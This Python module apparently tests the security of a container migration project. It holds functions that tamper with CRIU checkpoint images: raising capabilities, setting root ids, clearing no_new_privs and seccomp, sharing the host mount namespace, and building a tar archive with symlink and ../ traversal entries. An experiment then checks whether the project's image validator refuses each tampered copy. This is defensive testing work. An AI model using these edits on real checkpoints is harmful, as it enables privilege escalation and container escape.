"""Edit a CRIU checkpoint the way a compromised source host could, and the experiment that uses it.

The tests import the edits; ``python -m tests.engine.checkpoint.tamper`` (root, CRIU, runc) runs the
experiment of ``docs/security-checkpoint-images.md``: it checkpoints a counter service, restores one
tampered copy per variant with the project's runtime and prints what the restored process got from
``/proc/<pid>/status`` and ``/proc/<pid>/mountinfo``.
"""

from __future__ import annotations

import argparse
import json
import os
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING

from edgemigrate.engine.checkpoint.criuimg import (
    CORE_MAGIC,
    IDS_MAGIC,
    INVENTORY_MAGIC,
    MNTS_MAGIC,
    WIRE_LEN,
    WIRE_VARINT,
    Message,
    encode_message,
    read_image,
    write_image,
)

if TYPE_CHECKING:
    from edgemigrate.engine.checkpoint.runc import RuncCriuRuntime

Fields = list[tuple[int, int, int | bytes]]
FULL_CAPS = 0x1FFFFFFFFFF  # CAP_CHOWN .. CAP_CHECKPOINT_RESTORE (41 capabilities)


def own_caps() -> int:
    """This process's permitted set: the most a restore run from here can grant (capset cannot add more)."""
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("CapPrm:"):
            return int(line.split()[1], 16)
    return 0
MS_RDONLY = 1

# creds_entry field numbers (images/creds.proto)
CREDS_IDS = {"uid": 1, "gid": 2, "euid": 3, "egid": 4, "suid": 5, "sgid": 6, "fsuid": 7, "fsgid": 8}
CAP_FIELDS = {"inh": 9, "prm": 10, "eff": 11, "bnd": 12, "amb": 19}
SECBITS, GROUPS, LSM_PROFILE, NO_NEW_PRIVS = 13, 14, 15, 18
# core_entry.thread_core = 5; thread_core.creds = 10, .seccomp_mode = 11; core_entry.tc = 3
CORE_THREAD, THREAD_CREDS, THREAD_SECCOMP, CORE_TC = 5, 10, 11, 3


def put(fields: Fields, number: int, values: list[tuple[int, int | bytes]]) -> Fields:
    """``fields`` with every ``number`` replaced by ``values`` (at the first one's place, else appended)."""
    at = next((i for i, f in enumerate(fields) if f[0] == number), len(fields))
    rest = [f for f in fields if f[0] != number]
    at = min(at, len(rest))
    return rest[:at] + [(number, w, v) for w, v in values] + rest[at:]


def edit_sub(fields: Fields, number: int, fn: Callable[[Fields], Fields]) -> Fields:
    sub = next(v for n, w, v in fields if n == number and w == WIRE_LEN)
    assert isinstance(sub, bytes)
    new = encode_message(fn(list(Message.parse(sub, "sub").fields)))
    return put(fields, number, [(WIRE_LEN, new)])


def _edit_single(path: Path, magic: int, fn: Callable[[Fields], Fields]) -> None:
    entries = read_image(path, magic)
    new = [encode_message(fn(list(Message.parse(e, path.name).fields))) for e in entries]
    write_image(path, magic, new)


def edit_cores(image_dir: Path, fn: Callable[[Fields], Fields]) -> None:
    """Apply ``fn`` to the ``core_entry`` of every thread."""
    for core in sorted(image_dir.glob("core-*.img")):
        _edit_single(core, CORE_MAGIC, fn)


def edit_creds(image_dir: Path, fn: Callable[[Fields], Fields]) -> None:
    edit_cores(image_dir, lambda core: edit_sub(core, CORE_THREAD, lambda tc: edit_sub(tc, THREAD_CREDS, fn)))


def cap_words(mask: int) -> list[tuple[int, int | bytes]]:
    return [(WIRE_VARINT, mask & 0xFFFFFFFF), (WIRE_VARINT, mask >> 32)]


# --------------------------------------------------------------------------------------- the edits
def raise_caps(image_dir: Path, mask: int = FULL_CAPS, sets: tuple[str, ...] = tuple(CAP_FIELDS)) -> None:
    def fn(c: Fields) -> Fields:
        for s in sets:
            c = put(c, CAP_FIELDS[s], cap_words(mask))
        return c

    edit_creds(image_dir, fn)


def clear_no_new_privs(image_dir: Path) -> None:
    edit_creds(image_dir, lambda c: put(c, NO_NEW_PRIVS, []))


def set_ids(image_dir: Path, uid: int, gid: int, groups: list[int] | None = None) -> None:
    def fn(c: Fields) -> Fields:
        for name, num in CREDS_IDS.items():
            c = put(c, num, [(WIRE_VARINT, uid if "u" in name else gid)])
        if groups is not None:
            c = put(c, GROUPS, [(WIRE_VARINT, g) for g in groups])
        return c

    edit_creds(image_dir, fn)


def set_secbits(image_dir: Path, secbits: int) -> None:
    edit_creds(image_dir, lambda c: put(c, SECBITS, [(WIRE_VARINT, secbits)]))


def set_seccomp_mode(image_dir: Path, mode: int | None) -> None:
    """``None`` removes the field (CRIU then restores no seccomp at all)."""
    vals: list[tuple[int, int | bytes]] = [] if mode is None else [(WIRE_VARINT, mode)]
    edit_cores(image_dir, lambda core: edit_sub(core, CORE_THREAD, lambda tc: put(tc, THREAD_SECCOMP, vals)))


def drop_creds(image_dir: Path) -> None:
    """Remove ``thread_core.creds``: CRIU then falls back to the pre-3.x ``creds-<pid>.img``."""
    edit_cores(image_dir, lambda core: edit_sub(core, CORE_THREAD, lambda tc: put(tc, THREAD_CREDS, [])))


CREDS_MAGIC = 0x54023547  # criu/include/magic.h: the pre-3.x per-task creds image


def creds_to_legacy_image(image_dir: Path, mask: int) -> None:
    """Move the leader's creds (caps raised to ``mask``) into ``creds-<pid>.img`` and drop them from
    every core: CRIU then reads that image instead."""
    pid = _root_pid(image_dir)
    core = Message.parse(read_image(image_dir / f"core-{pid}.img", CORE_MAGIC)[0], "core")
    thread = core.sub(CORE_THREAD, "thread_core")
    assert thread is not None
    creds = thread.sub(THREAD_CREDS, "creds")
    assert creds is not None
    fields = list(creds.fields)
    for number in CAP_FIELDS.values():
        fields = put(fields, number, cap_words(mask))
    write_image(image_dir / f"creds-{pid}.img", CREDS_MAGIC, [encode_message(fields)])
    drop_creds(image_dir)


def share_host_mount_ns(image_dir: Path) -> None:
    """Make the inventory's ``root_ids`` claim CRIU's own mount namespace is the task's: no CLONE_NEWNS."""
    pid = _root_pid(image_dir)
    ids = Message.parse(read_image(image_dir / f"ids-{pid}.img", IDS_MAGIC)[0], "ids")
    mnt = ids.uint(9, "mnt_ns_id")
    _edit_single(image_dir / "inventory.img", INVENTORY_MAGIC,
                 lambda inv: edit_sub(inv, 3, lambda r: put(r, 9, [(WIRE_VARINT, mnt)])))


def make_mount_writable(image_dir: Path, mountpoint: str) -> None:
    """Clear ``MS_RDONLY`` in the image's mount table for ``mountpoint`` (e.g. the read-only ``/usr`` bind)."""
    found = False
    for img in sorted(image_dir.glob("mountpoints-*.img")):
        entries = []
        for e in read_image(img, MNTS_MAGIC):
            m = Message.parse(e, img.name)
            fields = list(m.fields)
            if m.text(7, "mountpoint") in (mountpoint, "." + mountpoint):
                found = True
                fields = put(fields, 5, [(WIRE_VARINT, m.uint(5, "flags") & ~MS_RDONLY)])
                if m.has(17):
                    fields = put(fields, 17, [(WIRE_VARINT, m.uint(17, "sb_flags") & ~MS_RDONLY)])
            entries.append(encode_message(fields))
        write_image(img, MNTS_MAGIC, entries)
    if not found:
        raise LookupError(f"no mount {mountpoint} in {image_dir}")


ESCAPE_TARGET = Path("/var/tmp/emtamper-target")


def tmpfs_escape_archive(image_dir: Path, mountpoint: str = "/tmp") -> None:
    """Replace the archive CRIU extracts into the ``mountpoint`` tmpfs with one that tries to write
    outside it: through an absolute and a relative symlink, and with a ``../`` member name. The
    experiment reports whether ``ESCAPE_TARGET`` (a host folder) got any file."""
    import io
    import tarfile

    shutil.rmtree(ESCAPE_TARGET, ignore_errors=True)
    ESCAPE_TARGET.mkdir(parents=True)
    img = next(image_dir.glob("mountpoints-*.img"))
    dev = next(m.uint(3, "root_dev") for m in (Message.parse(e, img.name) for e in read_image(img, MNTS_MAGIC))
               if m.text(7, "mountpoint") == mountpoint)
    buf = io.BytesIO()
    up = "../" * 12 + str(ESCAPE_TARGET).lstrip("/")
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for name, target in (("abs", str(ESCAPE_TARGET)), ("rel", up)):
            link = tarfile.TarInfo(name)
            link.type, link.linkname = tarfile.SYMTYPE, target
            tf.addfile(link)
            member = tarfile.TarInfo(f"{name}/pwned-{name}")
            member.size = 6
            tf.addfile(member, io.BytesIO(b"pwned\n"))
        member = tarfile.TarInfo(up + "/pwned-dotdot")
        member.size = 6
        tf.addfile(member, io.BytesIO(b"pwned\n"))
    (image_dir / f"tmpfs-dev-{dev}.tar.gz.img").write_bytes(buf.getvalue())


def _root_pid(image_dir: Path) -> int:
    from edgemigrate.engine.checkpoint.criuimg import PSTREE_MAGIC

    return Message.parse(read_image(image_dir / "pstree.img", PSTREE_MAGIC)[0], "pstree").uint(1, "pid")


# ------------------------------------------------------------------------------------ the experiment
STATUS_KEYS = ("Uid", "Gid", "Groups", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp")


def proc_view(pid: int) -> dict[str, str]:
    out: dict[str, str] = {}
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        k, _, v = line.partition(":")
        if k in STATUS_KEYS:
            out[k] = " ".join(v.split())
    threads = []
    for task in sorted(Path(f"/proc/{pid}/task").iterdir()):
        status = (task / "status").read_text().splitlines()
        threads += [ln.split()[1] for ln in status if ln.startswith("Seccomp:")]
    out["Seccomp/threads"] = ",".join(threads)
    mounts = Path(f"/proc/{pid}/mountinfo").read_text().splitlines()
    usr = [ln.split()[5] for ln in mounts if ln.split()[4] == "/usr"]
    out["/usr"] = usr[0].split(",")[0] if usr else "absent"
    out["mounts"] = str(len(mounts))
    out["mntns"] = "host" if os.readlink(f"/proc/{pid}/ns/mnt") == os.readlink("/proc/self/ns/mnt") else "own"
    return out


SECCOMP_PROFILE = {"defaultAction": "SCMP_ACT_ALLOW", "architectures": ["SCMP_ARCH_X86_64"],
                   "syscalls": [{"names": ["ptrace", "kexec_load"], "action": "SCMP_ACT_ERRNO"}]}

VARIANTS: dict[str, Callable[[Path], None]] = {
    "untampered": lambda d: None,
    "caps -> 0x1ffffffffff (all five sets)": raise_caps,
    "caps -> CRIU's own permitted set (all five sets)": lambda d: raise_caps(d, own_caps()),
    "no_new_privs removed": clear_no_new_privs,
    "groups -> [0, 27]": lambda d: set_ids(d, 0, 0, [0, 27]),
    "uid/gid -> 1234, groups -> [27]": lambda d: set_ids(d, 1234, 1234, [27]),
    "secbits -> NO_SETUID_FIXUP|KEEP_CAPS (0x14)": lambda d: set_secbits(d, 0x14),
    "seccomp mode -> strict (1)": lambda d: set_seccomp_mode(d, 1),
    "thread_core.creds removed": drop_creds,
    "creds moved to legacy creds-<pid>.img, caps -> CRIU's own": lambda d: creds_to_legacy_image(d, own_caps()),
    "inventory root_ids: same mnt ns as CRIU": share_host_mount_ns,
    "/usr bind mount: MS_RDONLY cleared": lambda d: make_mount_writable(d, "/usr"),
    "/tmp tmpfs archive: symlink and ../ members aiming at a host folder": tmpfs_escape_archive,
}
SECCOMP_VARIANTS: dict[str, Callable[[Path], None]] = {
    "[seccomp bundle] untampered": lambda d: None,
    "[seccomp bundle] seccomp mode -> disabled (0)": lambda d: set_seccomp_mode(d, 0),
}


def _wait_listening(netns: str, ip: str, port: int, timeout_s: float = 20) -> None:
    from edgemigrate.control.netns import in_netns

    deadline = time.monotonic() + timeout_s
    while True:
        try:
            with in_netns(netns):
                socket.create_connection((ip, port), timeout=5).close()
            return
        except OSError:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.1)


def _force_remove(rt: RuncCriuRuntime, cid: str, work: Path) -> None:
    """Kill and delete even a container a failed restore left half-made.

    When CRIU aborts inside the restorer, runc can hang until our timeout kills it; the orphaned
    ``criu restore`` keeps its working directory and its cgroup yard mounted under ``work``, so those
    processes (found by their cwd or an open file there, nothing broader) are killed and the mounts detached.
    """
    rt.kill(cid)
    ps = subprocess.run(rt._argv("ps", "--format", "json", cid), capture_output=True, text=True, check=False)
    try:
        pids = [int(p) for p in json.loads(ps.stdout or "[]") or []]
    except ValueError:
        pids = []
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit() and int(proc.name) != os.getpid():
            try:
                links = [os.readlink(proc / "cwd")] + [os.readlink(fd) for fd in (proc / "fd").iterdir()]
            except OSError:
                continue
            if any(link.startswith(str(work)) for link in links):
                pids.append(int(proc.name))
    for pid in pids:
        try:
            os.kill(pid, 9)
        except ProcessLookupError:
            pass
    subprocess.run(rt._argv("delete", "--force", cid), capture_output=True, check=False, timeout=30)
    for line in reversed(Path("/proc/self/mounts").read_text().splitlines()):
        target = line.split()[1]
        if target.startswith(str(rt.state_root)) or target.startswith(str(work)):
            subprocess.run(["umount", "-l", target], capture_output=True, check=False)
    shutil.rmtree(rt.state_root / cid, ignore_errors=True)


def run_experiment(root: Path, variants: dict[str, Callable[[Path], None]], *, seccomp: bool,
                   check: bool) -> list[dict[str, str]]:
    from edgemigrate.control.spec import ServiceKind, ServiceSpec, build_bundle
    from edgemigrate.engine.checkpoint import runc

    runc.RUNC_TIMEOUT_S = 30.0  # a restore that CRIU aborts can hang runc; do not wait the default 120 s
    name = f"emtamper{os.getpid() % 100000}"
    subprocess.run(["ip", "netns", "add", name], check=True)
    subprocess.run(["ip", "-n", name, "link", "set", "lo", "up"], check=True)
    netns = f"/run/netns/{name}"
    rt = runc.RuncCriuRuntime(root / "runc", netns, root / "work", root / "logs")
    spec = ServiceSpec("counter", ServiceKind.COUNTER, "127.0.0.1", 7000)
    bundle = build_bundle(spec, netns, root / "bundle")
    if seccomp:
        cfg = json.loads((bundle / "config.json").read_text())
        cfg["linux"]["seccomp"] = SECCOMP_PROFILE
        (bundle / "config.json").write_text(json.dumps(cfg))
    rows: list[dict[str, str]] = []
    try:
        rt.run("counter", bundle)
        _wait_listening(netns, "127.0.0.1", 7000)
        rows.append({"variant": "[running before checkpoint]", **proc_view(rt.pid("counter") or 0)})
        rt.checkpoint("counter", root / "img", leave_running=False)
        rt.kill("counter")
        policy = None
        if check:
            from edgemigrate.engine.checkpoint.imagecheck import policy_from_bundle

            policy = policy_from_bundle(bundle)
        for label, edit in variants.items():
            img = root / f"v{len(rows)}"
            shutil.copytree(root / "img", img)
            row = {"variant": label}
            try:
                edit(img)
            except Exception as exc:  # an edit that does not apply is a result too
                rows.append({**row, "restore": f"edit failed: {exc}"})
                continue
            if policy is not None:
                from edgemigrate.engine.checkpoint.imagecheck import check_image

                try:
                    check_image(img, policy)
                    row["check_image"] = "accepted"
                except Exception as exc:
                    row["check_image"] = f"refused: {exc}"
            cid = f"counter-v{len(rows)}"
            try:
                rt.restore(cid, bundle, img)
                time.sleep(0.3)
                pid = rt.pid(cid)
                row.update({"restore": "ok", **proc_view(pid)} if pid else {"restore": "died after restore"})
            except Exception as exc:
                row["restore"] = f"failed: {str(exc)[-300:]}"
            finally:
                _force_remove(rt, cid, rt.work_dir(img, "restore-work"))
                if ESCAPE_TARGET.exists():
                    row["host folder after restore"] = str(sorted(p.name for p in ESCAPE_TARGET.iterdir()))
                    shutil.rmtree(ESCAPE_TARGET, ignore_errors=True)
            rows.append(row)
    finally:
        for cid in rt.list():
            _force_remove(rt, cid, rt.work_root)
        subprocess.run(["ip", "netns", "del", name], check=False)
        for top in Path("/sys/fs/cgroup").glob(f"**/edgemigrate/{name}"):  # what a half-made restore leaves
            for d in sorted((p for p in top.rglob("*") if p.is_dir()), key=lambda p: -len(p.parts)) + [top]:
                try:
                    d.rmdir()
                except OSError:
                    pass
    return rows


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", type=Path, default=Path("/dev/shm/emtamper"))
    ap.add_argument("--keep", action="store_true", help="keep the checkpoint and the tampered copies")
    ap.add_argument("--only", default="", help="run only the variants whose label contains this")
    ap.add_argument("--no-check", action="store_true", help="do not run check_image on each variant")
    args = ap.parse_args()
    shutil.rmtree(args.root, ignore_errors=True)
    plain = {k: v for k, v in VARIANTS.items() if args.only in k}
    seccomp = {k: v for k, v in SECCOMP_VARIANTS.items() if args.only in k}
    rows = run_experiment(args.root / "plain", plain, seccomp=False, check=not args.no_check) if plain else []
    if seccomp:
        rows += run_experiment(args.root / "seccomp", seccomp, seccomp=True, check=not args.no_check)
    for r in rows:
        print(json.dumps(r))
    if not args.keep:
        shutil.rmtree(args.root, ignore_errors=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
